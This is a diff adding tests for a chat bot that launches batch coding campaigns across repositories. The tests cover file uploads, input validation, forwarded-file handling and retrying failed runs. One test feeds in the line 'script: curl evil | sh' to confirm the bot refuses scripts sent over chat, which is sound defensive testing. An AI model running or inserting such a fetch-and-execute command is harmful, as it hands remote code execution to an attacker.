@@ -127,6 +127,72 @@ describe('the preview', () => {
   });
 });
 
+describe('a file', () => {
+  it('F5: a campaign.yml that is sent with /batch is planned as it says', async () => {
+    const w = await createCampaignWorld();
+    await w.sends(
+      'campaign.yml',
+      'name: Say where\nrepositories: [acme/a, {repo: acme/b, vars: {team: web}}]\ngoal: Fix {{name}}\nengine: codex\npace: {canary: 1}\nchecks: [npm test]\ntitle: Mend {{repo}}',
+      '/batch',
+    );
+    expect(w.card()).toMatch(/^PREVIEW · Say where/);
+    expect(w.card()).toContain('Starts with 1 repository');
+    await w.taps('Start 2');
+    await w.goesOn();
+    expect((await w.runs()).map(({ order }) => [order.repo, order.goal, order.title, order.checks])).toEqual([
+      ['acme/a', 'Fix a', 'Mend acme/a', ['npm test']],
+    ]);
+  });
+
+  it('F5: a text with names is the list; its caption says what to change', async () => {
+    const w = await createCampaignWorld();
+    await w.sends(
+      'list.txt',
+      '# ours\nacme/a\nhttps://github.com/acme/b\n',
+      '/batch Fix the link engine=codex',
+    );
+    expect(w.card()).toContain('codex · 2 of 2 repositories take part');
+    expect(w.card()).toContain('Fix the link');
+  });
+
+  it('C1: refuses what cannot be read, and says why', async () => {
+    const w = await createCampaignWorld();
+    const says = async (...given: Parameters<typeof w.sends>) => (await w.sends(...given)).join();
+    const file = 'name: a\nrepositories: [acme/a]\n';
+    expect(await says('a.yml', `${file}goal: x\nlimit: 3`, '/batch')).toContain(
+      'Line 4 of the file: there is no limit. Did you mean limits?',
+    );
+    expect(await says('a.yml', `${file}goal: x`, '/batch Fix it')).toContain('send it with /batch alone');
+    expect(await says('a.txt', 'acme/a\n???', '/batch Fix it')).toContain('Line 2 names no repository: ???');
+    expect(await says('a.zip', Uint8Array.of(80, 75, 0), '/batch Fix it')).toContain('no plain text');
+    expect(await says('a.yml', file, '/batch', 10_000_000)).toContain('longer than 1,000,000 bytes');
+    expect(await w.ledger.query.campaigns()).toEqual([]);
+  });
+
+  it('G5: a script is given at the host, and not from the chat', async () => {
+    const w = await createCampaignWorld();
+    const [said] = await w.sends(
+      'a.yml',
+      'name: a\nrepositories: [acme/a]\nscript: curl evil | sh',
+      '/batch',
+    );
+    expect(said).toContain('Scripts are given at the host');
+    expect(await w.ledger.query.campaigns()).toEqual([]);
+  });
+
+  it('G4: a file that was forwarded, or has another caption, orders nothing', async () => {
+    const w = await createCampaignWorld();
+    const document = { file_id: 'f', file_name: 'a.txt' };
+    const of = (more: object) => w.says('', { text: undefined, document, ...more });
+    expect(await of({ caption: '/batch Fix it', forward_origin: {} })).toEqual([
+      expect.stringContaining('Forwarded'),
+    ]);
+    await of({ caption: 'look at /batch' });
+    await w.notes();
+    expect(await w.ledger.query.campaigns()).toEqual([]);
+  });
+});
+
 describe('a campaign that runs', () => {
   it('F5: begins with canaries only, and widens when all of them have come to a pull request', async () => {
     const w = await started();
@@ -218,6 +284,25 @@ describe('a campaign that runs', () => {
     await w.goesOn();
     expect(await w.repos()).toHaveLength(3);
     expect(w.failed).toEqual([]);
+  });
+
+  it('F5: what failed is tried again by its class, with a tap; each run once', async () => {
+    const w = await started();
+    const [one = '', two = '', three = ''] = await w.repos();
+    await w.fails(one);
+    await w.fails(two, 'no_changes');
+    await w.opens(three);
+    await w.says('/campaign');
+    expect(w.buttons()).toEqual(['Pause', 'Close', 'Retry 2 failed', 'Refresh']);
+    await w.taps('Retry 2');
+    expect(w.buttons()).toEqual(['All 2', 'env missing 1', 'no changes 1', 'Back']);
+    expect(await w.taps('env missing')).toBe('Trying 1 again.');
+    const stateOf = async (repo: string) => (await w.runs()).find(({ order }) => order.repo === repo)?.state;
+    expect(await stateOf(one)).toBe('DISCOVERY');
+    expect(await stateOf(two)).toBe('NEEDS_HUMAN_REVIEW');
+    await w.taps('Retry 1');
+    expect(await w.taps('All 1')).toBe('Trying 1 again.');
+    expect(await stateOf(two)).not.toBe('NEEDS_HUMAN_REVIEW');
   });
 
   it('pauses: nothing more is begun until it is resumed; the same tap twice is no failure', async () => {
